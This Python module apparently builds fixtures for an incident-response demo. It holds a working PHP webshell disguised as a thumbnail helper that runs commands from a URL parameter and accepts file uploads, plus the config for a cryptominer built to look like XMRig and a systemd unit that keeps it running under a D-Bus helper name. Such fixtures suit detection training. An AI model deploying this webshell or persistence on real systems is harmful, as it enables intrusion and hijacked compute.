"""What the attacker of the ``wiped`` incident leaves: a webshell, a cryptominer, its configuration and service.

Written for the demo: the miner is an ELF header and strings (no code), shaped
like an XMRig build so string and YARA searches recognise it; its configuration
follows XMRig's JSON layout (https://xmrig.com/docs/miner/config); the unit is
an ordinary systemd service (systemd.service(5)) named like a D-Bus helper.
"""

from __future__ import annotations

import json

#: Uploaded through the file manager's connector. ``c`` runs a command; ``f`` takes a file upload.
WEBSHELL = b"""<?php
// thumbnail cache helper
if (isset($_GET['c'])) { echo '<pre>'; system($_GET['c'] . ' 2>&1'); echo '</pre>'; exit; }
if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['d'] . '/' . $_FILES['f']['name']); echo 'ok'; }
"""

UNIT_DESCRIPTION = "D-Bus Broker Helper"


def miner_strings(pool: str) -> tuple[str, ...]:
    """Strings of the fake miner: its name and version, options, algorithms and the built-in pool."""
    return (
        "XMRig 6.21.0",
        "built on Oct 12 2025 with GCC 13.2.0",
        "Usage: xmrig [OPTIONS]",
        "--donate-level=N",
        "--config=FILE",
        "cryptonight",
        "randomx",
        "rx/0",
        f"stratum+tcp://{pool}",
        '"donate-level"',
        "huge pages",
        "/proc/self/exe",
        "GCC: (GNU) 13.2.0",
    )


def miner_config(pool: str, wallet: str, worker: str) -> bytes:
    """The miner's ``config.json``: every CPU but a quarter, no donation, the attacker's pool."""
    config = {
        "autosave": True,
        "background": True,
        "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 75},
        "donate-level": 0,
        "pools": [
            {
                "algo": "rx/0",
                "url": f"stratum+tcp://{pool}",
                "user": wallet,
                "pass": worker,
                "keepalive": True,
                "tls": False,
            }
        ],
        "print-time": 600,
        "syslog": False,
    }
    return (json.dumps(config, indent=4) + "\n").encode()


def unit(program: str, config: str) -> bytes:
    """The systemd service that starts the miner at every boot and whenever it stops."""
    return f"""[Unit]
Description={UNIT_DESCRIPTION}
After=network-online.target

[Service]
Type=simple
ExecStart={program} --config={config}
Restart=always
RestartSec=30
Nice=10

[Install]
WantedBy=multi-user.target
""".encode()
